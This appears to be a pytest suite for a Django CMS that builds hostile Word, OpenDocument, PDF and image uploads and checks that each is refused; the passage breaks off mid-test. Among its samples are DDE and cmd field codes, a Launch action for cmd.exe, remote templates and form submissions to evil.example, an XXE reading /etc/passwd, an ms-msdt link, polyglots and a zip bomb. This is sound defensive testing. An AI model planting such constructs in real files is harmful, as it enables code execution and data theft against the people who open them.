"""Hostile uploads: each is made here as an attacker would make it, and refused with words that say what to do."""

import io
import struct
import zipfile
import zlib

import docx
import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from PIL import Image, PngImagePlugin

from cms.content.fields import cleaned_picture
from cms.content.runner import Busy
from cms.content.validators import uploads, validate_document, validate_image, validate_name
from cms.packages.files import checked_digest, holds
from priorities.models import Document
from regions.models import Office

LIMIT = 1024 * 1024  # bytes unpacked, in these tests
WORD_TEXT = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONSHIP = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="https://evil.example/x" TargetMode="{mode}"/></Relationships>'
)
ODT = "application/vnd.oasis.opendocument.text"


@pytest.fixture(autouse=True)
def small_limit(monkeypatch):
    monkeypatch.setattr("cms.content.validators.MAX_ARCHIVE_BYTES", LIMIT)


def word(**parts: bytes | str) -> bytes:
    """Return a real Word file with parts added or replaced, by name with ``__`` for ``/``."""
    original, target = io.BytesIO(), io.BytesIO()
    docx.Document().save(original)
    added = {name.replace("__", "/"): content for name, content in parts.items()}
    with zipfile.ZipFile(original) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in added:
                new.writestr(entry, old.read(entry))
        for name, content in added.items():
            new.writestr(name, content)
    return target.getvalue()


def word_with_types(before: str, after: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        types = archive.read("[Content_Types].xml").decode()
    return word(**{"[Content_Types].xml": types.replace(before, after)})


def opendocument(*names: str, body: str = "", **parts: str) -> bytes:
    """Return an OpenDocument text with ``body`` in it, and with empty parts called ``names``."""
    content = f"<office:document-content {ODF_NAMES}><office:body>{body}</office:body></office:document-content>"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, part in {"mimetype": ODT, "content.xml": content, **parts}.items():
            archive.writestr(name, part)
        for name in names:
            archive.writestr(name, "<x/>")
    return target.getvalue()


ODF_NAMES = (
    " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "script", "form", "table", "presentation", "meta")
    )
    + ' xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def word_saying(body: str) -> bytes:
    """Return a Word file with ``body`` as the XML of its text."""
    names = f'xmlns:w="{WORD_TEXT}" xmlns:v="urn:schemas-microsoft-com:vml"'
    return word(**{"word/document.xml": f"<w:document {names}><w:body>{body}</w:body></w:document>"})


def related(kind: str, mode: str = "External", target: str = "https://evil.example/x") -> bytes:
    """Return a Word file with a relationship."""
    text = RELATIONSHIP.format(kind=kind, mode=mode).replace("https://evil.example/x", target)
    return word(**{"word/_rels/x.xml.rels": text})


def field(*codes: str) -> bytes:
    """Return a Word file with a field whose code stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return word_saying(f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}{mark.format('end')}</w:p>")


def pdf(change=lambda pdf: None, **options) -> bytes:
    """Return a PDF of one empty page, changed by ``change``."""
    made, target = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(target, **options)
    return target.getvalue()


def pdf_with(**entries) -> bytes:
    """Return a PDF with entries in its catalogue."""

    def change(made: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            made.Root[f"/{name}"] = made.make_indirect(value) if isinstance(value, pikepdf.Dictionary) else value

    return pdf(change)


def pdf_with_action(kind: str, **entries) -> bytes:
    return pdf_with(OpenAction=pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries))


def annotated(**entries) -> bytes:
    """Return a PDF with an annotation."""

    def change(made: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
        made.pages[0].obj["/Annots"] = pikepdf.Array([annotation])  # in the page itself, not an object of its own

    return pdf(change)


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["a.txt"] = b"x"


def with_outside_stream(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"")
    stream["/F"] = "elsewhere.bin"
    made.pages[0].obj["/Contents"] = stream


def escaped(content: bytes, name: bytes, other: bytes) -> bytes:
    """Return a PDF with a name spelled otherwise, its table of objects made right again by hand."""
    assert content.count(name) == 1
    before, _name, after = content.partition(name)
    changed = before + other + after
    table = changed.rindex(b"xref\n", 0, changed.rindex(b"startxref"))
    lines = changed[table:].split(b"trailer")[0].splitlines()[2:]
    grown = len(other) - len(name)
    moved = [
        b"%010d%b" % (int(line[:10]) + (grown if int(line[:10]) > len(before) else 0), line[10:]) for line in lines
    ]
    rebuilt = changed[:table] + b"\n".join([*changed[table:].splitlines()[:2], *moved]) + b"\n"
    trailer = changed[table:].split(b"trailer")[1].split(b"startxref")[0]
    return rebuilt + b"trailer" + trailer + b"startxref\n%d\n%%%%EOF\n" % table


def javascript() -> pikepdf.Object:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


PDF = pdf()


def deep(levels: int) -> pikepdf.Object:
    found = pikepdf.Dictionary(JS="x")
    for _each in range(levels):
        found = pikepdf.Dictionary(A=found)
    return found


def word_bomb() -> bytes:
    return word(word__media__bomb=bytes(LIMIT + 1))


def picture(kind: str, size=(2, 2), **options) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size).save(target, kind, **options)
    return target.getvalue()


def png_of(width: int, height: int) -> bytes:
    """Return a PNG whose head promises ``width`` x ``height`` pixels in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def moving_webp() -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (2, 2), colour) for colour in ("red", "blue")]
    frames[0].save(target, "WEBP", save_all=True, append_images=frames[1:])
    return target.getvalue()


HOSTILE_DOCUMENTS = {
    "svg": ("plan.svg", lambda: b"<svg onload='x()'/>", "extension"),
    "html": ("plan.html", lambda: b"<script>x()</script>", "extension"),
    "macro-extension": ("plan.docm", lambda: word(), "extension"),
    "html-named-pdf": ("plan.pdf", lambda: b"<html><script>x()</script>", "content"),
    "pdf-named-docx": ("plan.docx", lambda: PDF, "content"),
    "docx-named-pdf": ("plan.pdf", lambda: word(), "content"),
    "docx-named-odt": ("plan.odt", lambda: word(), "content"),
    "zip-named-docx": ("plan.docx", lambda: opendocument(), "content"),
    "empty": ("plan.pdf", lambda: b"", "empty"),
    "cut-pdf": ("plan.pdf", lambda: b"%PDF-1.7\n1 0 obj", "content"),
    "cut-docx": ("plan.docx", lambda: word()[:2000], "content"),
    "pdf-and-html": ("plan.pdf", lambda: b"%PDF-1.7\n<!DOCTYPE html><script>x()</script>\n%%EOF\n", "polyglot"),
    "pdf-and-zip": ("plan.pdf", lambda: PDF + word(), "content"),
    "pdf-and-tail": ("plan.pdf", lambda: PDF + b"MZ program", "polyglot"),
    "gif-and-docx": ("plan.docx", lambda: b"GIF89a=1;x();/*" + word(), "content"),
    "zip-before-docx": ("plan.docx", lambda: opendocument() + word(), "polyglot"),
    "script-in-pdf": ("plan.pdf", lambda: pdf_with(OpenAction=javascript()), "active"),
    "script-in-pdf-escaped": (
        "plan.pdf",
        lambda: escaped(
            escaped(pdf_with(OpenAction=javascript()), b"/JavaScript", b"/J#61vaScript"), b"/JS", b"/#4aS"
        ),
        "active",
    ),
    "script-in-compressed-objects": (
        "plan.pdf",
        lambda: pdf(
            lambda made: made.Root.__setitem__("/OpenAction", made.make_indirect(javascript())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "active",
    ),
    "script-by-name-in-pdf": ("plan.pdf", lambda: pdf_with(Names=pikepdf.Dictionary(JavaScript={})), "active"),
    "script-in-a-link-of-pdf": ("plan.pdf", lambda: pdf_with_action("URI", URI="javascript:x()"), "active"),
    "script-next-in-pdf": (
        "plan.pdf",
        lambda: pdf_with_action("GoTo", Next=pikepdf.Array([javascript()])),
        "active",
    ),
    "action-that-nobody-knows-yet": ("plan.pdf", lambda: pdf_with_action("Teleport"), "active"),
    "action-that-nobody-knows-yet-beside": (
        "plan.pdf",
        lambda: pdf_with(AA=pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.Teleport))),
        "active",
    ),
    "annotation-that-nobody-knows-yet": ("plan.pdf", lambda: annotated(Subtype=pikepdf.Name.Hologram), "active"),
    "field-that-nobody-knows-yet": ("plan.docx", lambda: field("FETCH x"), "active"),
    "program-in-pdf": ("plan.pdf", lambda: pdf_with_action("Launch", F="cmd.exe"), "active"),
    "remote-goto": ("plan.pdf", lambda: pdf_with_action("GoToR", F="//evil/x.pdf"), "active"),
    "embedded-goto": ("plan.pdf", lambda: pdf_with_action("GoToE"), "active"),
    "submitted-form": ("plan.pdf", lambda: pdf_with_action("SubmitForm", F="https://evil.example/"), "active"),
    "share-of-a-network-in-pdf": ("plan.pdf", lambda: pdf_with_action("URI", URI="\\\\evil\\share"), "active"),
    "file-of-a-computer-in-pdf": ("plan.pdf", lambda: pdf_with_action("URI", URI="file:///c:/x"), "active"),
    "file-in-pdf": ("plan.pdf", lambda: pdf(with_attachment), "active"),
    "file-at-a-place-in-pdf": ("plan.pdf", lambda: annotated(Subtype=pikepdf.Name.FileAttachment), "active"),
    "film-in-pdf": ("plan.pdf", lambda: annotated(Subtype=pikepdf.Name.RichMedia), "active"),
    "stream-elsewhere": ("plan.pdf", lambda: pdf(with_outside_stream), "active"),
    "xfa": ("plan.pdf", lambda: pdf_with(AcroForm=pikepdf.Dictionary(XFA="x")), "active"),
    "deep-pdf": ("plan.pdf", lambda: pdf_with(X=deep(100)), "content"),
    "password": ("plan.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")), "encrypted"),
    "no-copying": ("plan.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="y")), "encrypted"),
    "broken-table-of-pdf": ("plan.pdf", lambda: PDF.replace(b"xref\n0", b"xref\n9"), "content"),
    "macros-in-docx": ("plan.docx", lambda: word(**{"word/vbaProject.bin": b"x"}), "active"),
    "docm-renamed": ("plan.docx", lambda: word_with_types(MAIN, MACRO_MAIN), "active"),
    "docm-renamed-in-references": (
        "plan.docx",
        lambda: word_with_types(MAIN, MACRO_MAIN.replace("E", "&#69;")),
        "active",
    ),
    "template-elsewhere": (
        "plan.docx",
        lambda: word(
            **{"word/_rels/settings.xml.rels": RELATIONSHIP.format(kind="attachedTemplate", mode="External")}
        ),
        "active",
    ),
    "template-elsewhere-in-references": (
        "plan.docx",
        lambda: word(
            **{"word/_rels/settings.xml.rels": RELATIONSHIP.format(kind="attachedTemplate", mode="&#69;xternal")}
        ),
        "active",
    ),
    "entities-in-docx": (
        "plan.docx",
        lambda: word(**{"word/_rels/x.rels": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        "content",
    ),
    "bin-in-docx": ("plan.docx", lambda: word(**{"word/printer.BIN": b"x"}), "active"),
    "workbook-in-docx": ("plan.docx", lambda: word(**{"word/embeddings/a.xlsx": b"x"}), "active"),
    "type-in-capitals": ("plan.docx", lambda: related("ATTACHEDTEMPLATE", mode="EXTERNAL"), "active"),
    "object-inside": ("plan.docx", lambda: related("oleObject", mode="Internal", target="a.xml"), "active"),
    "alternative-part": ("plan.docx", lambda: related("aFChunk", mode="Internal", target="a.xml"), "active"),
    "picture-elsewhere": ("plan.docx", lambda: related("image"), "active"),
    "picture-elsewhere-unsaid": ("plan.docx", lambda: related("image", mode="Internal"), "active"),
    "picture-of-a-share": ("plan.docx", lambda: related("image", target=r"\\evil\share\x.png"), "active"),
    "link-to-a-file": ("plan.docx", lambda: related("hyperlink", target="file:///c:/x.exe"), "active"),
    "link-to-a-program": ("plan.docx", lambda: related("hyperlink", target="ms-msdt:/id"), "active"),
    "script-in-a-link": ("plan.docx", lambda: related("hyperlink", target="JavaScript:x()"), "active"),
    "alternative-chunk": ("plan.docx", lambda: word_saying("<w:altChunk/>"), "active"),
    "sub-document": ("plan.docx", lambda: word_saying("<w:subDoc/>"), "active"),
    "control": ("plan.docx", lambda: word_saying("<w:control/>"), "active"),
    "old-picture-elsewhere": (
        "plan.docx",
        lambda: word_saying('<v:imagedata src="https://evil.example/x"/>'),
        "active",
    ),
    "dde": ("plan.docx", lambda: field("DDE cmd x"), "active"),
    "dde-in-pieces": ("plan.docx", lambda: field(" DD", "Eau", "to c:\\windows"), "active"),
    "dde-simple": ("plan.docx", lambda: word_saying('<w:fldSimple w:instr=" ddeauto x"/>'), "active"),
    "dde-made-by-another-field": (
        "plan.docx",
        lambda: word_saying(
            '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
            "<w:instrText>QUOTE 68 68 69</w:instrText>"
            '<w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
        ),
        "active",
    ),
    "dde-without-an-end": ("plan.docx", lambda: word_saying("<w:instrText>DDEAUTO x</w:instrText>"), "active"),
    "picture-by-field": ("plan.docx", lambda: field('INCLUDEPICTURE "https://evil.example/x"'), "active"),
    "text-by-field": ("plan.docx", lambda: field('IncludeText "c:\\x"'), "active"),
    "link-of-a-field": ("plan.docx", lambda: field('HYPERLINK "file:///c:/x"'), "active"),
    "script-in-a-drawing": ("plan.docx", lambda: word(**{"word/media/a.svg": "<svg onload='x()'/>"}), "active"),
    "elsewhere-in-a-drawing": (
        "plan.docx",
        lambda: word(**{"word/media/a.svg": "<svg><image href='https://evil.example/x'/></svg>"}),
        "active",
    ),
    "entities-in-the-text": (
        "plan.docx",
        lambda: word(**{"word/footer9.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "content",
    ),
    "same-part-twice": ("plan.docx", lambda: word(**{"word/DOCUMENT.xml": "<x/>"}), "content"),
    "part-outside": ("plan.docx", lambda: word(**{"../x.xml": "<x/>"}), "content"),
    "docx-and-tail": ("plan.docx", lambda: word() + b"<script>x()</script>", "polyglot"),
    "deep-docx": ("plan.docx", lambda: word_saying("<w:p>" * 1_000), "content"),
    "script-in-odt": ("plan.odt", lambda: opendocument(body="<office:script/>"), "active"),
    "event-in-odt": ("plan.odt", lambda: opendocument(body='<script:event-listener xlink:href="x"/>'), "active"),
    "dde-in-odt": ("plan.odt", lambda: opendocument(body="<text:dde-connection/>"), "active"),
    "object-in-odt": ("plan.odt", lambda: opendocument(body='<draw:object-ole xlink:href="./Object 1"/>'), "active"),
    "frame-in-odt": ("plan.odt", lambda: opendocument(body="<draw:floating-frame/>"), "active"),
    "picture-elsewhere-of-odt": (
        "plan.odt",
        lambda: opendocument(body='<draw:image xlink:href="https://evil.example/x"/>'),
        "active",
    ),
    "picture-beside-odt": ("plan.odt", lambda: opendocument(body='<draw:image xlink:href="../x.png"/>'), "active"),
    "section-elsewhere-of-odt": (
        "plan.odt",
        lambda: opendocument(body='<text:section-source xlink:href="file:///etc/passwd"/>'),
        "active",
    ),
    "script-in-a-link-of-odt": (
        "plan.odt",
        lambda: opendocument(body='<text:a xlink:href="vnd.sun.star.script:x"/>'),
        "active",
    ),
    "entities-in-odt": ("plan.odt", lambda: opendocument(**{"styles.xml": "<!DOCTYPE x><x/>"}), "content"),
    "program-in-odt": ("plan.odt", lambda: opendocument("Object 1"), "active"),
    "inner-macros-of-odt": ("plan.odt", lambda: opendocument("Object 1/Basic/script-lc.xml"), "active"),
    "macros-in-odt": ("plan.odt", lambda: opendocument("Basic/Standard/Module1.xml"), "active"),
    "archive-bomb": ("plan.docx", word_bomb, "archive"),
    "two-extensions": ("plan.html.pdf", lambda: PDF, "name"),
    "right-to-left-override": ("plan\u202efdp.pdf", lambda: PDF, "name"),
    "control-character": ("plan\n.pdf", lambda: PDF, "name"),
}


@pytest.mark.parametrize("name", HOSTILE_DOCUMENTS)
def test_hostile_document_is_refused(name):
    filename, make, code = HOSTILE_DOCUMENTS[name]
    with pytest.raises(ValidationError) as refused:
        validate_document(ContentFile(make(), name=filename))
    assert refused.value.code == code


@pytest.mark.parametrize("name", HOSTILE_DOCUMENTS)
def test_hostile_document_is_refused_in_a_package_too(tmp_path, name):
    filename, make, _code = HOSTILE_DOCUMENTS[name]
    path = tmp_path / filename
    path.write_bytes(make())
    with pytest.raises(ValidationError):
        checked_digest(Document._meta.get_field("file"), path)


def test_document_that_is_too_large_is_refused(settings):
    settings.MAX_DOCUMENT_BYTES = 10
    with pytest.raises(ValidationError, match="the most that is accepted"):
        validate_document(ContentFile(PDF, name="plan.pdf"))


@pytest.mark.parametrize(
    ("filename", "make"),
    [
        ("plan.pdf", lambda: PDF),
        ("Plan v1.2 (final).PDF", lambda: PDF),
        ("ended.pdf", lambda: PDF + b"\r\n\x00"),
        ("linked.pdf", lambda: pdf_with_action("URI", URI="https://www.example.org/")),
        ("compressed.pdf", lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        ("words.pdf", lambda: pdf(lambda made: made.docinfo.__setitem__("/Title", "/JavaScript and /Launch"))),
        ("plan.docx", word),
        (
            "links.docx",
            lambda: word(**{"word/_rels/x.xml.rels": RELATIONSHIP.format(kind="hyperlink", mode="External")}),
        ),
        ("contents.docx", lambda: field(' TOC \\o "1-3" ')),
        ("reference.docx", lambda: field(" ADDIN ZOTERO_ITEM CSL_CITATION {} ")),
        ("plan.odt", opendocument),
        (
            "pictures.odt",
            lambda: opendocument(
                "Pictures/a.png",
                "ObjectReplacements/Object 1",
                body='<draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://www.example.org/">x</text:a>'
                '<draw:object xlink:href="./Object 1"/><office:scripts/>',
                **{"Configurations2/accelerator/current.xml": ""},
            ),
        ),
    ],
    ids=[
        *("pdf", "points-in-name", "ended-pdf", "linked-pdf", "compressed-pdf", "words-of-pdf", "docx"),
        *("docx-with-links", "docx-contents", "docx-reference", "odt", "odt-pictures"),
    ],
)
def test_honest_document_is_accepted(filename, make):
    file = ContentFile(make(), name=filename)
    validate_document(file)
    assert file.tell() == 0


@pytest.mark.parametrize(
    ("filename", "make", "code"),
    [
        ("a.svg", lambda: b"<svg/>", "extension"),
        ("a.gif", lambda: picture("GIF"), "extension"),
        ("a.png", lambda: picture("JPEG"), "content"),
        ("a.jpg", lambda: b"GIF89a/*" + picture("JPEG"), "content"),
        ("a.jpg", lambda: b"<html><script>x()</script>", "content"),
        ("a.jpg", lambda: picture("JPEG", comment=b"<script>x()</script>"), "polyglot"),
        ("a.png", lambda: picture("PNG") + b"<?php x(); ?>", "polyglot"),
        ("a.png", lambda: png_of(7000, 7000), "pixels"),
        ("a.png", lambda: png_of(60_000, 60_000), "pixels"),
        ("a.webp", moving_webp, "animated"),
        ("a.png", lambda: b"", "empty"),
        ("a.php.png", lambda: picture("PNG"), "name"),
    ],
    ids=[
        *("svg", "gif", "jpeg-named-png", "gif-and-jpeg", "html", "jpeg-and-html", "png-and-php", "many-pixels"),
        *("bomb", "moving", "empty", "two-extensions"),
    ],
)
def test_hostile_picture_is_refused(filename, make, code):
    with pytest.raises(ValidationError) as refused:
        validate_image(ContentFile(make(), name=filename))
    assert refused.value.code == code


@pytest.mark.parametrize(("filename", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG"), ("a.webp", "WEBP")])
def test_honest_picture_is_accepted(filename, kind):
    validate_image(ContentFile(picture(kind), name=filename))


# --- What a camera writes ----------------------------------------------------------------------------------------

NOTE = b"written by the camera"


def exif(orientation: int = 1) -> bytes:
    found = Image.Exif()
    found[0x0112], found[0x010F] = orientation, NOTE.decode()
    found.get_ifd(0x8825)[1] = "S"  # GPS
    return found.tobytes()


def photograph(kind: str, size=(20, 10), **options) -> bytes:
    """Return a picture, left red and right blue, with what cameras write."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    target = io.BytesIO()
    image.save(target, kind, **{"exif": exif(), **options})
    return target.getvalue()


def png_note() -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text("Author", NOTE.decode())
    found.add_itxt("XML:com.adobe.xmp", NOTE.decode())
    return found


def several_pictures() -> bytes:
    """Return a JPEG with a second one behind it, as phones write for depth or for a preview."""
    images, target = [Image.new("RGB", (20, 10), colour) for colour in ("red", "blue")], io.BytesIO()
    images[0].save(target, "MPO", save_all=True, append_images=images[1:], exif=exif())
    return target.getvalue()


PHOTOGRAPHS = {
    "jpeg-exif": ("a.jpg", lambda: photograph("JPEG")),
    "jpeg-xmp": ("a.jpg", lambda: photograph("JPEG", xmp=NOTE)),
    "jpeg-comment": ("a.jpg", lambda: photograph("JPEG", exif=b"", comment=NOTE)),
    "jpeg-behind": ("a.jpg", lambda: photograph("JPEG", exif=b"") + NOTE),
    "jpeg-progressive": ("a.jpeg", lambda: photograph("JPEG", progressive=True)),
    "jpeg-several": ("a.jpg", several_pictures),
    "png-exif": ("a.png", lambda: photograph("PNG")),
    "png-text": ("a.png", lambda: photograph("PNG", exif=b"", pnginfo=png_note())),
    "png-behind": ("a.png", lambda: photograph("PNG", exif=b"") + NOTE),
    "webp-exif": ("a.webp", lambda: photograph("WEBP")),
    "webp-xmp": ("a.webp", lambda: photograph("WEBP", lossless=True, exif=b"", xmp=NOTE)),
}


def stored(name: str, content: bytes) -> Image.Image:
    office = Office(slug="a")
    office.cover_image.save(name, ContentFile(content), save=False)
    with office.cover_image.open("rb") as file:
        kept = file.read()
    assert not any(trace in kept for trace in (NOTE, b"Exif", b"http://ns.adobe.com", b"MPF"))
    return Image.open(io.BytesIO(kept))


@pytest.mark.parametrize("name", PHOTOGRAPHS)
def test_picture_is_stored_without_what_the_camera_wrote(name):
    filename, make = PHOTOGRAPHS[name]
    validate_image(ContentFile(make(), name=filename))
    image = stored(filename, make())
    assert image.size == (20, 10)
    assert image.convert("RGB").getpixel((2, 5))[0] > 200
    assert not image.getexif()


@pytest.mark.parametrize(("name", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG"), ("a.webp", "WEBP")])
def test_picture_is_turned_as_the_camera_says(name, kind):
    image = stored(name, photograph(kind, size=(64, 32), exif=exif(orientation=6)))  # a quarter to the right
    assert image.size == (32, 64)
    top, bottom = (image.convert("RGB").getpixel((16, y)) for y in (8, 56))
    assert top[0] > 200 > bottom[0]
    assert bottom[2] > 200


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("a.jpg", lambda: picture("JPEG")),
        ("a.jpg", lambda: picture("JPEG", progressive=True, icc_profile=b"profile")),
        ("a.png", lambda: picture("PNG", icc_profile=b"profile")),
        ("a.webp", lambda: picture("WEBP", lossless=True)),
        ("a.webp", lambda: picture("WEBP", icc_profile=b"profile")),
    ],
    ids=["jpeg", "jpeg-profile", "png", "webp", "webp-profile"],
)
def test_picture_that_is_plain_is_stored_as_it_is(name, make):
    assert cleaned_picture(ContentFile(make(), name=name)) == make()


@pytest.mark.parametrize("name", PHOTOGRAPHS)
def test_picture_is_cleaned_once(name):
    filename, make = PHOTOGRAPHS[name]
    once = cleaned_picture(ContentFile(make(), name=filename))
    assert cleaned_picture(ContentFile(once, name=filename)) == once


def test_picture_in_a_palette_stays_transparent():
    image, target = Image.new("P", (4, 4), 1), io.BytesIO()
    image.putpalette([0, 0, 0, 255, 0, 0])
    image.save(target, "PNG", transparency=1, pnginfo=png_note())
    assert stored("a.png", target.getvalue()).convert("RGBA").getpixel((1, 1))[3] == 0


@pytest.mark.parametrize(("filename", "kind"), [("a.jpg", "JPEG"), ("a.png", "PNG"), ("a.webp", "WEBP")])
def test_picture_that_is_cut_off_is_refused(filename, kind):
    noise = Image.effect_noise((200, 200), 90)
    target = io.BytesIO()
    noise.convert("RGB").save(target, kind)
    content = target.getvalue()
    for size in (len(content) // 2, len(content) - 20):
        with pytest.raises(ValidationError) as refused:
            validate_image(ContentFile(content[:size], name=filename))
        assert refused.value.code in ("damaged", "content")
        with pytest.raises(ValidationError):
            validate_image(ContentFile(content[: len(content) // 3], name=filename))


def test_package_with_a_photograph_changes_nothing_the_second_time(tmp_path):
    field, path = Office._meta.get_field("cover_image"), tmp_path / "a.jpg"
    path.write_bytes(photograph("JPEG"))
    expected = checked_digest(field, path)
    office = Office(slug="a")
    office.cover_image.save("a.jpg", ContentFile(path.read_bytes()), save=False)
    assert holds(office.cover_image, expected)


def test_refusal_of_a_name_with_two_extensions_says_which_is_meant():
    with pytest.raises(ValidationError) as refusal:
        validate_name(ContentFile(b"", name="report.php.pdf"))
    assert ".php" in refusal.value.messages[0]


# --- Details -------------------------------------------------------------------------------------------------------


def refused(validate, content: bytes, name: str) -> str:
    with pytest.raises(ValidationError) as refusal:
        validate(ContentFile(content, name=name))
    return refusal.value.code


def test_word_file_without_the_type_of_a_document_is_none():
    assert refused(validate_document, word_with_types(MAIN, "application/xml"), "plan.docx") == "content"


def test_part_that_is_no_xml_makes_no_word_file():
    assert refused(validate_document, word(**{"word/_rels/x.rels": "<x"}), "plan.docx") == "content"


def test_file_of_the_largest_size_is_accepted_and_one_byte_more_says_both_sizes(settings):
    settings.MAX_DOCUMENT_BYTES = len(PDF)
    validate_document(ContentFile(PDF, name="plan.pdf"))
    settings.MAX_DOCUMENT_BYTES = 2048
    with pytest.raises(ValidationError) as refusal:
        validate_document(ContentFile(PDF[:-6] + b" " * 2048 + PDF[-6:], name="plan.pdf"))
    assert refusal.value.code == "size"
    assert "2.0\xa0KB" in refusal.value.messages[0]


def test_line_ends_behind_the_end_of_a_pdf_are_no_other_file():
    validate_document(ContentFile(PDF + b"\r\n\t \x00", name="plan.PDF"))


@pytest.mark.parametrize("sign", ["\u2028", "\u2029", "\u200b", "\x7f"])
def test_invisible_sign_in_a_name_is_refused(sign):
    assert refused(validate_name, PDF, f"pl{sign}an.pdf") == "name"


def test_name_with_points_and_capitals_is_accepted_unless_they_hide_a_program():
    validate_name(ContentFile(PDF, name="Plan v1.2.2024.pdf"))
    assert refused(validate_name, PDF, "plan.EXE.pdf") == "name"


@pytest.mark.parametrize("kind", ["template", "hyperlink"])
def test_link_that_a_reader_follows_is_fine_and_a_part_that_is_fetched_is_not(kind):
    content = word(**{"word/_rels/x.rels": RELATIONSHIP.format(kind=kind, mode="External")})
    if kind == "hyperlink":
        validate_document(ContentFile(content, name="plan.docx"))
    else:
        assert refused(validate_document, content, "plan.docx") == "active"


def test_file_in_the_storage_is_not_asked_again():
    file = ContentFile(b"nothing of it", name="plan.exe")
    file._committed = True
    validate_document(file)
    validate_image(file)


def test_picture_of_as_many_pixels_as_may_be_is_accepted(monkeypatch):
    monkeypatch.setattr("cms.content.validators.MAX_IMAGE_PIXELS", 6)
    validate_image(ContentFile(picture("PNG", (2, 3)), name="a.png"))
    assert refused(validate_image, picture("PNG", (7, 1)), "a.png") == "pixels"


def test_picture_is_read_from_its_beginning_again_after_the_check():
    file = ContentFile(picture("PNG"), name="a.png")
    file.read()
    validate_image(file)
    assert file.tell() == 0


def test_photograph_keeps_its_quality():
    content = photograph("JPEG", size=(64, 64), quality=97, subsampling=0)
    before, after = Image.open(io.BytesIO(content)), stored("a.jpg", content)
    assert after.quantization == before.quantization
    assert after.layer == before.layer  # how the colours are sampled


def test_photograph_keeps_its_colour_profile():
    assert stored("a.jpg", photograph("JPEG", icc_profile=b"profile")).info["icc_profile"] == b"profile"


def test_lossless_picture_stays_so():
    content = photograph("WEBP", size=(20, 10), lossless=True)
    assert b"VP8L" in cleaned_picture(ContentFile(content, name="a.webp"))
    assert b"VP8L" not in cleaned_picture(ContentFile(photograph("WEBP"), name="a.webp"))


def test_picture_of_a_print_keeps_how_it_is_coloured():
    target = io.BytesIO()
    Image.new("CMYK", (2, 2)).save(target, "JPEG")
    assert b"Adobe" in target.getvalue()
    assert cleaned_picture(ContentFile(target.getvalue(), name="a.jpg")) == target.getvalue()


@pytest.mark.parametrize("make", [lambda: picture("JPEG"), lambda: b"no picture", lambda: png_of(7000, 7000)])
def test_picture_that_was_refused_is_read_from_its_beginning_again(make):
    file = ContentFile(make(), name="a.png")
    with pytest.raises(ValidationError):
        validate_image(file)
    assert file.tell() == 0


@pytest.mark.parametrize(("kind", "end"), [("JPEG", 2), ("PNG", 12)])
def test_picture_that_lacks_nothing_but_its_end_is_refused(kind, end):
    content = picture(kind)[:-end]
    assert refused(validate_image, content, "a.jpg" if kind == "JPEG" else "a.png") == "damaged"


# --- The scanner of the operators' choice ------------------------------------------------------------------------

UPLOADS = {"plan.pdf": (validate_document, lambda: PDF), "a.png": (validate_image, lambda: picture("PNG"))}


@pytest.mark.parametrize("name", UPLOADS)
@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("exit 1", "found something"),
        ("exit 2", "could not be checked"),
        ("sleep 9", "could not be checked"),
        ('! grep -q . "$0"', "found something"),  # the path of the file is the last argument
    ],
)
def test_upload_that_the_scanner_does_not_pass_is_refused(settings, name, script, message):
    settings.UPLOAD_SCANNER, settings.UPLOAD_SCANNER_SECONDS = ["sh", "-c", script], 0.5
    validate, make = UPLOADS[name]
    with pytest.raises(ValidationError, match=message) as refused:
